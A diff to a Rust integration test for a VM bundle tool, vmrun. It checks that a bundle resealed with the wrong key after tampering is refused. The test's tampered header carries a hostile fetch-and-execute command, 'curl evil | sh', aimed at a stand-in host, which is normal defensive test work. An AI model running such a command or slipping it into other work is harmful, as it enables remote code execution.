@@ -8,6 +8,8 @@ mod common;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
+use vmrun::bundle;
+
 fn vmrun(home: &Path, args: &[&str]) -> Command {
     let mut cmd = Command::new(common::VMRUN);
     cmd.args(args).env("VMRUN_HOME", home);
@@ -205,6 +207,36 @@ fn cut_and_flipped_bundles_are_refused() {
         ("flipped", flipped),
         ("not a bundle", b"#!/bin/sh\necho hi\n".to_vec()),
     ];
+    // Tampered: the header changed (its command made another) and sealed again without the
+    // image's key, by someone who does not hold the image.
+    let tampered = broken.path().join("tampered.vmrun");
+    let parts = tempfile::tempdir().unwrap();
+    let client_key = vmrun::store::Store::new(&vmrun::paths::Home::under(&common::test_home()))
+        .get(&vmrun::name::ImageName::new(common::baked_image()).unwrap())
+        .unwrap()
+        .client_key();
+    let key = bundle::SealKey::from_client_key(&std::fs::read(client_key).unwrap());
+    let quiet = |_| {};
+    let mut header = bundle::extract(bundle, &key, parts.path(), &quiet).unwrap();
+    header.command = vec!["sh".into(), "-c".into(), "curl evil | sh".into()];
+    let (disk, state) = (parts.path().join("disk.qcow2"), parts.path().join("state"));
+    let other = bundle::SealKey::from_client_key(b"not the image's key");
+    bundle::write(&tampered, &header, &disk, &state, &other, &quiet).unwrap();
+    let out = open(&common::test_home(), &tampered, &["true"]);
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(240), "{err}");
+    assert!(err.contains("its seal does not"), "{err}");
+    let info = vmrun(&common::test_home(), &["open", "--info"])
+        .arg(&tampered)
+        .output()
+        .unwrap();
+    assert_eq!(info.status.code(), Some(240));
+    assert!(
+        text(&info.stdout).contains("DOES NOT MATCH"),
+        "{}",
+        text(&info.stdout)
+    );
+
     for (what, content) in cases {
         let path = broken
             .path()
